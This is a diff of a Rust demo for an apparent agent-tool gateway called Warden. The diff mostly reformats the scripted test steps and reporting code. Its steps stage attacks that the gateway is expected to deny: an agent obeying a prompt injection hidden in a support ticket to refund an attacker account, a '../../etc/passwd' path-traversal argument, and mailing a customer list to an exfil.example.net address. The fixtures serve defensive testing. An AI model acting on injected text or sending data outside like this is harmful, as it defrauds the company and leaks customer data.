@@ -28,19 +28,110 @@ struct Step {
 
 fn script() -> Vec<Step> {
     vec![
-        Step { agent: "support-triage", tool: "list_tickets", args: json!({"status": "open", "limit": 10}), ticket: "TRIAGE-1", story: "ordinary read", expect: "allow" },
-        Step { agent: "support-triage", tool: "get_ticket", args: json!({"ticket_id": "T-1003"}), ticket: "TRIAGE-1", story: "reads a ticket that hides a prompt injection", expect: "allow" },
-        Step { agent: "support-triage", tool: "issue_refund", args: json!({"account_id": "ACC-0666", "amount": 4900, "reason": "SYSTEM NOTE"}), ticket: "TRIAGE-1", story: "obeys the injected text: refund to the attacker", expect: "deny" },
-        Step { agent: "support-triage", tool: "get_ticket", args: json!({"ticket_id": "../../etc/passwd"}), ticket: "TRIAGE-1", story: "argument outside its pattern", expect: "deny" },
-        Step { agent: "crm-writer", tool: "get_account", args: json!({"account_id": "ACC-0002"}), ticket: "CRM-7", story: "ordinary read", expect: "allow" },
-        Step { agent: "crm-writer", tool: "update_account", args: json!({"account_id": "ACC-0002", "field": "phone", "value": "+1 555 0100"}), ticket: "CRM-7", story: "write at tier review", expect: "allow" },
-        Step { agent: "crm-writer", tool: "issue_refund", args: json!({"account_id": "ACC-0001", "amount": 49.5, "reason": "charged twice in November"}), ticket: "CRM-8", story: "refund: a person must approve", expect: "approval_required" },
-        Step { agent: "crm-writer", tool: "issue_refund", args: json!({"account_id": "ACC-0001", "amount": 800, "reason": "annual plan cancelled"}), ticket: "CRM-9", story: "large refund: two people must approve", expect: "approval_required" },
-        Step { agent: "crm-writer", tool: "issue_refund", args: json!({"account_id": "ACC-0666", "amount": 4900, "reason": "as instructed"}), ticket: "CRM-9", story: "amount above the card's limit", expect: "deny" },
-        Step { agent: "crm-writer", tool: "send_email", args: json!({"to": "ada@example.com", "subject": "Your refund", "body": "We are processing it."}), ticket: "CRM-8", story: "e-mail to the company's domain", expect: "allow" },
-        Step { agent: "crm-writer", tool: "send_email", args: json!({"to": "archive@exfil.example.net", "subject": "customers", "body": "list attached"}), ticket: "CRM-8", story: "e-mail to an outside domain", expect: "deny" },
-        Step { agent: "crm-writer", tool: "update_account", args: json!({"account_id": "ACC-0003", "field": "status", "value": "closed"}), ticket: "CRM-10", story: "hand-written forbid policy", expect: "deny" },
-        Step { agent: "crm-writer", tool: "delete_account", args: json!({"account_id": "ACC-0003"}), ticket: "CRM-10", story: "tool not on the scope card", expect: "deny" },
+        Step {
+            agent: "support-triage",
+            tool: "list_tickets",
+            args: json!({"status": "open", "limit": 10}),
+            ticket: "TRIAGE-1",
+            story: "ordinary read",
+            expect: "allow",
+        },
+        Step {
+            agent: "support-triage",
+            tool: "get_ticket",
+            args: json!({"ticket_id": "T-1003"}),
+            ticket: "TRIAGE-1",
+            story: "reads a ticket that hides a prompt injection",
+            expect: "allow",
+        },
+        Step {
+            agent: "support-triage",
+            tool: "issue_refund",
+            args: json!({"account_id": "ACC-0666", "amount": 4900, "reason": "SYSTEM NOTE"}),
+            ticket: "TRIAGE-1",
+            story: "obeys the injected text: refund to the attacker",
+            expect: "deny",
+        },
+        Step {
+            agent: "support-triage",
+            tool: "get_ticket",
+            args: json!({"ticket_id": "../../etc/passwd"}),
+            ticket: "TRIAGE-1",
+            story: "argument outside its pattern",
+            expect: "deny",
+        },
+        Step {
+            agent: "crm-writer",
+            tool: "get_account",
+            args: json!({"account_id": "ACC-0002"}),
+            ticket: "CRM-7",
+            story: "ordinary read",
+            expect: "allow",
+        },
+        Step {
+            agent: "crm-writer",
+            tool: "update_account",
+            args: json!({"account_id": "ACC-0002", "field": "phone", "value": "+1 555 0100"}),
+            ticket: "CRM-7",
+            story: "write at tier review",
+            expect: "allow",
+        },
+        Step {
+            agent: "crm-writer",
+            tool: "issue_refund",
+            args: json!({"account_id": "ACC-0001", "amount": 49.5, "reason": "charged twice in November"}),
+            ticket: "CRM-8",
+            story: "refund: a person must approve",
+            expect: "approval_required",
+        },
+        Step {
+            agent: "crm-writer",
+            tool: "issue_refund",
+            args: json!({"account_id": "ACC-0001", "amount": 800, "reason": "annual plan cancelled"}),
+            ticket: "CRM-9",
+            story: "large refund: two people must approve",
+            expect: "approval_required",
+        },
+        Step {
+            agent: "crm-writer",
+            tool: "issue_refund",
+            args: json!({"account_id": "ACC-0666", "amount": 4900, "reason": "as instructed"}),
+            ticket: "CRM-9",
+            story: "amount above the card's limit",
+            expect: "deny",
+        },
+        Step {
+            agent: "crm-writer",
+            tool: "send_email",
+            args: json!({"to": "ada@example.com", "subject": "Your refund", "body": "We are processing it."}),
+            ticket: "CRM-8",
+            story: "e-mail to the company's domain",
+            expect: "allow",
+        },
+        Step {
+            agent: "crm-writer",
+            tool: "send_email",
+            args: json!({"to": "archive@exfil.example.net", "subject": "customers", "body": "list attached"}),
+            ticket: "CRM-8",
+            story: "e-mail to an outside domain",
+            expect: "deny",
+        },
+        Step {
+            agent: "crm-writer",
+            tool: "update_account",
+            args: json!({"account_id": "ACC-0003", "field": "status", "value": "closed"}),
+            ticket: "CRM-10",
+            story: "hand-written forbid policy",
+            expect: "deny",
+        },
+        Step {
+            agent: "crm-writer",
+            tool: "delete_account",
+            args: json!({"account_id": "ACC-0003"}),
+            ticket: "CRM-10",
+            story: "tool not on the scope card",
+            expect: "deny",
+        },
     ]
 }
 
@@ -59,7 +150,10 @@ pub async fn run(keep: Option<PathBuf>) -> anyhow::Result<ExitCode> {
     let dir = match keep {
         Some(d) => {
             if d.exists() {
-                bail!("--keep {}: the directory already exists; choose a new one", d.display());
+                bail!(
+                    "--keep {}: the directory already exists; choose a new one",
+                    d.display()
+                );
             }
             std::fs::create_dir_all(&d)?;
             d
@@ -71,7 +165,10 @@ pub async fn run(keep: Option<PathBuf>) -> anyhow::Result<ExitCode> {
     };
     println!("Warden demo");
     println!("===========");
-    println!("project: {} (example from `warden init`: 2 agents, 4 demo tool servers)", dir.display());
+    println!(
+        "project: {} (example from `warden init`: 2 agents, 4 demo tool servers)",
+        dir.display()
+    );
     let keys = write_example(&dir)?;
     let project = match load(&dir) {
         Ok(p) => p,
@@ -82,15 +179,25 @@ pub async fn run(keep: Option<PathBuf>) -> anyhow::Result<ExitCode> {
         project.policy.policy_count(),
         project.policy.short_version()
     );
-    let ledger = open_ledger(&dir, &project.config.store.url, project.config.store.durability).await?;
-    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.context("binding a loopback port")?;
+    let ledger = open_ledger(
+        &dir,
+        &project.config.store.url,
+        project.config.store.durability,
+    )
+    .await?;
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
+        .await
+        .context("binding a loopback port")?;
     let addr = listener.local_addr()?;
     let state = AppState::new(&project.config, Arc::new(project.policy), ledger.clone());
     let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
     let server = tokio::spawn(warden_gateway::serve(listener, state, async {
         let _ = stop_rx.await;
     }));
-    println!("gateway: http://{addr} (SQLite ledger {})", ledger.path().display());
+    println!(
+        "gateway: http://{addr} (SQLite ledger {})",
+        ledger.path().display()
+    );
     println!();
 
     let client = reqwest::Client::new();
@@ -115,14 +222,23 @@ pub async fn run(keep: Option<PathBuf>) -> anyhow::Result<ExitCode> {
         if !status.is_success() {
             bail!("the gateway answered {status}: {body}");
         }
-        let decision = body["decision"].as_str().unwrap_or("?").to_string();
-        let tier = body["tier"].as_str().unwrap_or("").to_string();
+        let decision = body
+            .get("decision")
+            .and_then(Value::as_str)
+            .unwrap_or("?")
+            .to_string();
+        let tier = body
+            .get("tier")
+            .and_then(Value::as_str)
+            .unwrap_or("")
+            .to_string();
         let mut what = decision.clone();
         if decision != "deny" && tier != "auto" {
             what = format!("{decision} ({tier})");
         }
-        let reason = body["reasons"]
-            .as_array()
+        let reason = body
+            .get("reasons")
+            .and_then(Value::as_array)
             .map(|r| {
                 // The most specific reason: for held calls the tier note, otherwise the first.
                 let texts: Vec<&str> = r.iter().filter_map(Value::as_str).collect();
@@ -134,7 +250,11 @@ pub async fn run(keep: Option<PathBuf>) -> anyhow::Result<ExitCode> {
             .unwrap_or_default();
         let mut ran = String::from("-");
         if decision == "allow" {
-            let qualified = body["tool"].as_str().unwrap_or(step.tool).to_string();
+            let qualified = body
+                .get("tool")
+                .and_then(Value::as_str)
+                .unwrap_or(step.tool)
+                .to_string();
             let started = Instant::now();
             let result = tools.call(&qualified, &step.args);
             let ms = u64::try_from(started.elapsed().as_millis()).unwrap_or(u64::MAX);
@@ -142,7 +262,7 @@ pub async fn run(keep: Option<PathBuf>) -> anyhow::Result<ExitCode> {
                 Ok(v) => ("success", v),
                 Err(e) => ("error", json!({"error": e})),
             };
-            let id = body["id"].as_str().unwrap_or_default();
+            let id = body.get("id").and_then(Value::as_str).unwrap_or_default();
             let r = client
                 .post(format!("http://{addr}/v1/decisions/{id}/outcome"))
                 .bearer_auth(&key)
@@ -150,14 +270,21 @@ pub async fn run(keep: Option<PathBuf>) -> anyhow::Result<ExitCode> {
                 .send()
                 .await?;
             if !r.status().is_success() {
-                bail!("recording the outcome failed: {}", r.text().await.unwrap_or_default());
+                bail!(
+                    "recording the outcome failed: {}",
+                    r.text().await.unwrap_or_default()
+                );
             }
             ran = st.to_string();
         } else if decision == "approval_required" {
             ran = "held".to_string();
         }
         if decision != step.expect {
-            mismatches.push(format!("step {}: expected {}, got {decision}", n + 1, step.expect));
+            mismatches.push(format!(
+                "step {}: expected {}, got {decision}",
+                n + 1,
+                step.expect
+            ));
         }
         rows.push(vec![
             (n + 1).to_string(),
@@ -181,7 +308,14 @@ pub async fn run(keep: Option<PathBuf>) -> anyhow::Result<ExitCode> {
         parts.join("  ").trim_end().to_string()
     };
     println!("{}", line(&header));
-    println!("{}", widths.iter().map(|w| "─".repeat(*w)).collect::<Vec<_>>().join("  "));
+    println!(
+        "{}",
+        widths
+            .iter()
+            .map(|w| "─".repeat(*w))
+            .collect::<Vec<_>>()
+            .join("  ")
+    );
     for r in &rows {
         let cells: Vec<&str> = r.iter().take(6).map(String::as_str).collect();
         println!("{}", line(&cells));
@@ -194,10 +328,19 @@ pub async fn run(keep: Option<PathBuf>) -> anyhow::Result<ExitCode> {
     let _ = server.await;
     let report = ledger.verify(|_| {}).await?;
     let count = ledger.count().await?;
-    let allowed = rows.iter().filter(|r| r.get(3).is_some_and(|d| d.starts_with("allow"))).count();
-    let denied = rows.iter().filter(|r| r.get(3).is_some_and(|d| d.starts_with("deny"))).count();
+    let allowed = rows
+        .iter()
+        .filter(|r| r.get(3).is_some_and(|d| d.starts_with("allow")))
+        .count();
+    let denied = rows
+        .iter()
+        .filter(|r| r.get(3).is_some_and(|d| d.starts_with("deny")))
+        .count();
     let held = rows.len() - allowed - denied;
-    println!("{} calls proposed: {allowed} allowed, {denied} denied, {held} waiting for approval", rows.len());
+    println!(
+        "{} calls proposed: {allowed} allowed, {denied} denied, {held} waiting for approval",
+        rows.len()
+    );
     match &report.first_break {
         None => println!(
             "ledger:  {count} records ({} decisions + {} outcomes), hash chain verified; head {}",
@@ -206,7 +349,10 @@ pub async fn run(keep: Option<PathBuf>) -> anyhow::Result<ExitCode> {
             report.head
         ),
         Some(b) => {
-            println!("ledger:  VERIFICATION FAILED at record {}: {}", b.seq, b.reason);
+            println!(
+                "ledger:  VERIFICATION FAILED at record {}: {}",
+                b.seq, b.reason
+            );
             return Ok(ExitCode::FAILURE);
         }
     }
@@ -219,7 +365,11 @@ pub async fn run(keep: Option<PathBuf>) -> anyhow::Result<ExitCode> {
     }
     if kept {
         println!();
-        println!("Look closer:  warden audit tail -p {}   ·   warden audit verify -p {}", dir.display(), dir.display());
+        println!(
+            "Look closer:  warden audit tail -p {}   ·   warden audit verify -p {}",
+            dir.display(),
+            dir.display()
+        );
     }
     Ok(ExitCode::SUCCESS)
 }
